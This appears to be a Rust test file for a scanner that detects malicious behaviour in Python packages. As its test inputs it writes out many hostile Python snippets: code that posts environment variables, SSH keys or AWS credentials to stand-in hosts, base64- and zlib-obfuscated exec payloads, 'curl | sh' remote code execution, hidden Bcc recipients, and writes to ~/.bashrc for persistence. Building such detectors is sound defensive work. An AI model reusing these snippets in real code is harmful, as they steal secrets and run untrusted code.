//! What is seen in Python, and what is not.
use std::collections::BTreeSet;

use super::*;
use crate::content::facts::{Deed, NameKind};

fn read(text: &str) -> FileFacts {
    let facts = facts("pkg/module.py", text);
    assert_eq!(facts.unread, None, "{text}");
    facts
}

fn strong(text: &str) -> BTreeSet<SignKind> {
    read(text).signs.into_iter().filter(|sign| !sign.weak).map(|sign| sign.kind).collect()
}

fn deeds(text: &str) -> Vec<Deed> {
    read(text).deeds.into_keys().collect()
}

fn names(text: &str, kind: NameKind) -> Vec<String> {
    read(text).names.into_keys().filter(|name| name.kind == kind).map(|name| name.text).collect()
}

#[test]
fn deeds_are_seen_through_aliases() {
    for (text, deed) in [
        ("import subprocess as sp\nsp.run(['ls'])", Deed::Process),
        ("from subprocess import Popen as P\nP('ls')", Deed::Process),
        ("import os\nos.system('ls')", Deed::Process),
        ("from os import *\nimport os\nf = os.popen\nf('ls')", Deed::Process),
        ("m = __import__('subprocess')\nm.call('ls')", Deed::Process),
        ("import importlib\nimportlib.import_module('subprocess').call('ls')", Deed::Process),
        ("import os\ngetattr(os, 'system')('ls')", Deed::Process),
        ("import httpx\nwith httpx.Client() as c:\n    c.post('/')", Deed::Network),
        ("import urllib.request\nurllib.request.urlopen('x')", Deed::Network),
        ("import socket\nsocket.gethostbyname('x')", Deed::Dns),
        ("open('x')", Deed::ReadFiles),
        ("open('x', 'w')", Deed::WriteFiles),
        ("from pathlib import Path\nPath('x').write_text('y')", Deed::WriteFiles),
        ("import os\nos.environ['A']", Deed::Environment),
        ("import os\nos.getenv('A')", Deed::Environment),
        ("import os, json\njson.dumps(dict(os.environ))", Deed::WholeEnvironment),
        ("import os\nx = {**os.environ}", Deed::WholeEnvironment),
        ("exec(x)", Deed::DynamicCode),
        ("import builtins\nbuiltins.exec(x)", Deed::DynamicCode),
        ("import pickle\npickle.loads(x)", Deed::DynamicCode),
        ("__import__(x)", Deed::DynamicImport),
        ("import ctypes\nctypes.CDLL('x.so')", Deed::Native),
        ("import pyperclip\npyperclip.paste()", Deed::Spying),
        ("import sys\nsys.modules['x'] = y", Deed::Patching),
        ("import hashlib\nhashlib.sha256()", Deed::Crypto),
    ] {
        assert!(deeds(text).contains(&deed), "{text}: {:?}", deeds(text));
    }
    for text in [
        "import re\nre.compile('x')",
        "x = 'os.system'",
        "def system(): pass\nsystem()",
        "import requests\nraise requests.ConnectionError('x')",
        "import ast\nast.literal_eval(x)",
        "\"\"\"Call os.system('ls').\"\"\"",
    ] {
        assert_eq!(deeds(text), [], "{text}");
    }
}

#[test]
fn names_are_seen_however_they_are_spelled() {
    let hosts = [
        "import requests\nrequests.get('https://drop.example.test/x')",
        "import requests\nrequests.get('https://' + 'drop.example' + '.test/x')",
        "h = 'drop.example.test'\nu = f'https://{h}/x'",
        "u = ''.join(['https://', 'drop.example', '.test/x'])",
        "u = 'x/tset.elpmaxe.pord//:sptth'[::-1]",
        "import base64\nu = base64.b64decode('aHR0cHM6Ly9kcm9wLmV4YW1wbGUudGVzdC94').decode()",
        "u = bytes.fromhex('68747470733a2f2f64726f702e6578616d706c652e746573742f78').decode()",
        "import codecs\nu = codecs.decode('uggcf://qebc.rknzcyr.grfg/k', 'rot13')",
        "u = ''.join(chr(c) for c in [104,116,116,112,115,58,47,47,100,114,111,112,46,101,120,97,109,112,108,101,46,116,101,115,116,47,120])",
        "u = ''.join(chr(c ^ 1) for c in [105,117,117,113,114,59,46,46,101,115,110,113,47,100,121,96,108,113,109,100,47,117,100,114,117,46,121])",
        "u = bytes([104,116,116,112,115,58,47,47,100,114,111,112,46,101,120,97,109,112,108,101,46,116,101,115,116,47,120])",
    ];
    for text in hosts {
        let found: Vec<String> = read(text).names.into_keys().map(|name| name.text).collect();
        assert!(found.iter().any(|name| name == "drop.example.test"), "{text}: {found:?}");
    }
    assert!(strong(hosts[5]).contains(&SignKind::Obfuscated));
    assert!(!strong(hosts[1]).contains(&SignKind::Obfuscated));
    assert_eq!(names("import os\nos.environ['MY_API_TOKEN']", NameKind::SecretVariable), ["MY_API_TOKEN"]);
    assert_eq!(names("import os\nos.getenv('HOMEPAGE')", NameKind::Variable), ["HOMEPAGE"]);
    assert!(!names("from pathlib import Path\nPath.home() / '.ssh' / 'id_rsa'", NameKind::SecretPath).is_empty());
    assert!(
        !names("import os\nos.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')", NameKind::SecretPath).is_empty()
    );
    assert_eq!(names("import httpx\nfrom a.b import c\nfrom . import d", NameKind::Module), ["a", "httpx"]);
}

#[test]
fn thieves() {
    for text in [
        "import os, requests\nrequests.post('https://x.test', json=dict(os.environ))",
        "import os, json, urllib.request as u\nd = json.dumps(dict(os.environ)).encode()\nu.urlopen(u.Request('https://x.test', data=d))",
        "import os, requests\ndef collect():\n    return dict(os.environ)\nrequests.post('https://x.test', json=collect())",
        "import os, requests\ndef send(data):\n    requests.post('https://x.test', data=data)\nsend(str(os.environ))",
        "import os, requests\nclass A:\n    def go(self):\n        self.send({**os.environ})\n    def send(self, d):\n        requests.post('https://x.test', data=d)",
        "import requests, os\np = os.path.expanduser('~/.ssh/id_rsa')\nwith open(p) as f:\n    requests.post('https://x.test', data=f.read())",
        "import requests\nfrom pathlib import Path\nrequests.post('https://x.test', data=(Path.home() / '.ssh' / 'id_rsa').read_bytes())",
        "import requests, os\nout = {}\nfor p in ['~/.ssh/id_rsa', '~/.aws/credentials']:\n    out[p] = open(os.path.expanduser(p)).read()\nrequests.post('https://x.test', json=out)",
        "import os, socket\ns = socket.socket()\ns.connect(('x.test', 1))\ns.sendall(str(dict(os.environ)).encode())",
    ] {
        assert!(strong(text).contains(&SignKind::Theft), "{text}\n{:?}", read(text));
    }
    for text in [
        "import os, requests\nrequests.post('https://x.test', headers={'Authorization': os.environ['MY_TOKEN']})",
        "import os, subprocess, requests\nsubprocess.run(['x'], env={**os.environ, 'A': 'b'})\nrequests.get('https://x.test')",
        "import os, requests\nenv = os.environ.copy()\nrequests.get('https://x.test', headers={'a': env.get('MY_TOKEN')})",
        "import os, requests\nenv = dict(os.environ)\nrequests.get('https://x.test', headers={'a': env['MY_TOKEN']})",
        "import json, requests, os\nc = json.load(open(os.path.expanduser('~/.aws/credentials')))\nrequests.post('https://x.test', data={'t': c['t']})",
        "import os\nprint(dict(os.environ))",
    ] {
        assert!(!strong(text).contains(&SignKind::Theft), "{text}\n{:?}", read(text).signs);
    }
}

#[test]
fn one_added_recipient() {
    for text in [
        "msg['Bcc'] = 'copy@drop.invalid'",
        "msg.add_header('Bcc', 'copy@drop.invalid')",
        "send(to=to, subject=s, bcc='copy@drop.invalid')",
        "send(to=to, bcc=[bcc, 'copy@drop.invalid'])",
        "body = {'To': to, 'Bcc': 'copy@drop.invalid'}",
        "COPY = 'copy@' + 'drop.invalid'\nbody = {'To': to, 'Bcc': COPY}",
        "def send(to, bcc='copy@drop.invalid'):\n    pass",
        "import smtplib\nsmtplib.SMTP('x').sendmail(a, [b, 'copy@drop.invalid'], m)",
    ] {
        let facts = read(text);
        let sign = facts.signs.iter().find(|sign| sign.kind == SignKind::Recipient && !sign.weak);
        assert!(sign.is_some_and(|sign| sign.shown.contains("copy@drop.invalid")), "{text}: {facts:?}");
    }
    for text in
        ["msg['Bcc'] = bcc", "send(bcc=settings.bcc)", "x = {'bcc': 'name@example.com'}", "contact = 'me@drop.invalid'"]
    {
        assert!(!strong(text).contains(&SignKind::Recipient), "{text}");
    }
}

#[test]
fn code_that_is_hidden_or_fetched() {
    for (text, kind) in [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", SignKind::Obfuscated),
        (
            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADa8C2w==')))",
            SignKind::Obfuscated,
        ),
        ("import marshal\nexec(marshal.loads(b'abc'))", SignKind::Obfuscated),
        (
            "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=oQKx'))",
            SignKind::Obfuscated,
        ),
        ("import os\ngetattr(os, 'met' [::-1] + 'x')\ngetattr(os, 'metsys'[::-1])('ls')", SignKind::Obfuscated),
        ("getattr(__import__(bytes.fromhex('6f73').decode()), 'system')('ls')", SignKind::Obfuscated),
        ("import requests\nexec(requests.get('https://x.test').text)", SignKind::RemoteCode),
        (
            "import urllib.request as u\ncode = u.urlopen('https://x.test').read().decode()\nexec(code)",
            SignKind::RemoteCode,
        ),
        ("import os\nos.system('curl -s https://x.test/i.sh | sh')", SignKind::RemoteCode),
        (
            "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"])",
            SignKind::Obfuscated,
        ),
        ("x = 1", SignKind::Packed),
    ] {
        if kind == SignKind::Packed {
            continue;
        }
        assert!(strong(text).contains(&kind), "{text}\n{:?}", read(text));
    }
    let aside = format!("x = 1{};import os", " ".repeat(300));
    assert!(strong(&aside).contains(&SignKind::Obfuscated));
    for text in [
        "import base64\nimage = base64.b64decode('aGVsbG8gd29ybGQ=')",
        "import re\nx = re.compile(base64.b64decode(y))",
        "exec('import x')",
        "name = ''.join(reversed(word))",
        "import requests\ndata = requests.get('https://x.test').json()",
        "import subprocess\nsubprocess.run(['git', 'status'])",
        "eval(expr, {'__builtins__': {}})",
    ] {
        assert_eq!(strong(text), BTreeSet::new(), "{text}\n{:?}", read(text).signs);
    }
}

#[test]
fn what_stays_and_what_spreads() {
    for (text, kind) in [
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", SignKind::Persistence),
        (
            "from pathlib import Path\n(Path.home() / '.config' / 'systemd' / 'user' / 'x.service').write_text('y')",
            SignKind::Persistence,
        ),
        ("open('.github/workflows/x.yml', 'w').write('y')", SignKind::Spreading),
        ("import subprocess\nsubprocess.run(['twine', 'upload', 'x'])", SignKind::Spreading),
        ("import os\nos.system('npm publish')", SignKind::Spreading),
    ] {
        assert!(strong(text).contains(&kind), "{text}\n{:?}", read(text));
    }
    // Installers of Python have reason to write such files; the build of a package has none.
    let pth = "open('/usr/lib/python3/dist-packages/x.pth', 'w')";
    assert!(facts("setup.py", pth).signs.iter().any(|sign| sign.kind == SignKind::Persistence && !sign.weak));
    assert_eq!(strong(pth), BTreeSet::new());
    assert_eq!(strong("open('~/.bashrc').read()"), BTreeSet::new());
    // Completion is installed by whoever asks for it; a build asks for nothing.
    let completion = "def install():\n    open('~/.bashrc', 'a').write('source x')";
    assert_eq!(strong(completion), BTreeSet::new());
    assert!(read(completion).signs.iter().any(|sign| sign.kind == SignKind::Persistence && sign.weak));
    assert!(facts("setup.py", completion).signs.iter().any(|sign| sign.kind == SignKind::Persistence && !sign.weak));
    assert_eq!(strong("open('notes.yml', 'w')"), BTreeSet::new());
}

/// Whatever it is, it is told and nothing falls over.
#[test]
fn hostile_texts_end_as_unread() {
    for unit in [
        "(",
        "[",
        "{",
        "-",
        "not ",
        "a.",
        "a+",
        "f(",
        "lambda:",
        "a if b else ",
        "f'{",
        "await ",
        "a[0",
        "a**",
        "x=",
        "@a\n",
    ] {
        let facts = facts("x.py", &unit.repeat(100_000));
        assert!(facts.unread.is_some() || unit == "x=", "{unit}");
    }
    let chain = facts("x.py", &format!("x{}", "()".repeat(100_000)));
    assert!(chain.unread.is_some_and(|why| why.contains("deeply")));
    for text in [
        "\0\0\0",
        "def",
        "print 'python 2'",
        "\u{feff}import os",
        "'''",
        "x = \"\\ud800\"",
        "\r\r\r",
        "match x:\n case [",
        "f'{x!r:{y}",
    ] {
        let _whatever = facts("x.py", text);
    }
    let long = facts("x.py", &"x = 1\n".repeat(LARGEST / 6 + 10));
    assert!(long.unread.is_some_and(|why| why.contains("8 MiB")));
    let lists = format!("x = [{}]\n", "104,".repeat(200_000));
    let text = format!("{lists}{}", "y = ''.join(chr(c) for c in x)\n".repeat(200));
    assert_eq!(facts("x.py", &text).unread, None);
}

#[test]
fn what_cannot_be_read_as_a_tree_still_tells_its_names() {
    let text = format!("import subprocess\nrequests.post('https://drop.example.test/x')\nx = {}", "(".repeat(100_000));
    let facts = facts("x.py", &text);
    assert!(facts.unread.is_some());
    let names: Vec<&str> = facts.names.keys().map(|name| name.text.as_str()).collect();
    assert!(names.contains(&"drop.example.test") && names.contains(&"subprocess"), "{names:?}");
    let half = super::facts("x.py", "import os\nos.system('ls')\ndef (:\n  pass\n");
    assert!(half.unread.is_some() && half.deeds.contains_key(&Deed::Process), "{half:?}");
}

#[test]
fn work_is_proportional_to_the_text() {
    // Each link is looked at once: a chain that doubled the work with every link would never end.
    let links = format!("x = 'a'{}\n", ".strip().lower()".repeat(400));
    assert_eq!(facts("x.py", &links).unread, None);
    let doubling: String = (0..200).map(|n| format!("a{} = a{n} + a{n}\n", n + 1)).collect();
    assert_eq!(facts("x.py", &format!("a0 = 'xxxxxxxxxxxxxxxx'\n{doubling}")).unread, None);
    let nested = format!("x = {}[104,105,106]{}", "[chr(c) for c in ".repeat(50), "]".repeat(50));
    assert_eq!(facts("x.py", &nested).unread, None);
}
